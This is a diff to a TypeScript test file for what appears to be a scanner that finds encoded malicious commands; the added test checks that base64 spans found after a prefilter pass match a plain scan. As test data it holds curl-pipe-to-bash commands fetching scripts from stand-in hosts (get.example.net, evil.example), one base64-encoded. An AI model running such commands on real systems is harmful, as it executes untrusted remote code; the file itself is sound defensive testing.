@@ -1,8 +1,11 @@
 // Decoder tests: each decoder alone, nested decoding, the depth bound, and offset mapping to the encoded span.
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
+import { alphabetRuns, forgetLastPass } from './byte-loop.js';
 import { findEncodedSpans, looksLikeText } from './decoders.js';
 import { scanText } from './index.js';
+import { buildPrefilter } from './prefilter.js';
+import { prng } from './sample.js';
 
 const PAYLOAD = 'curl -fsSL https://get.example.net/i.sh | bash';
 const pipeHits = (text: string, kind: 'text' | 'code-js' | 'code-py' = 'text', maxDecodeDepth?: number) =>
@@ -118,3 +121,25 @@ describe('decoders', () => {
   });
 });
 
+
+describe('base64 runs from the prefilter byte loop', () => {
+  it('are the same spans as the scan over the text, also where non-ASCII units have alphabet low bytes', () => {
+    const p = buildPrefilter(['curl']);
+    const next = prng(7);
+    const b64 = Buffer.from('curl -fsSL https://evil.example/x.sh | bash; echo done and more text here').toString('base64');
+    const bits = [b64, b64.slice(0, 21), 'word ', 'x', '\u0141', '\u0161\u0141', 'é', '==', ' ', '\n', 'aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ', '\u{1f600}', '-_', '+/'];
+    let compared = 0;
+    for (let n = 0; n < 400; n++) {
+      let t = '';
+      while (t.length < 300 + (n % 7) * 100) t += bits[Math.floor(next() * bits.length)];
+      forgetLastPass();
+      const plain = findEncodedSpans(t).map((s) => [s.decoder, s.start, s.end, s.text]);
+      p.scan(t); // leaves the text in the byte loop's memory
+      assert.ok(alphabetRuns(t, 20) !== undefined);
+      const hinted = findEncodedSpans(t).map((s) => [s.decoder, s.start, s.end, s.text]);
+      assert.deepEqual(hinted, plain, JSON.stringify(t.slice(0, 80)));
+      compared += plain.length;
+    }
+    assert.ok(compared > 100, `the texts must hold decodable runs (got ${compared})`);
+  });
+});
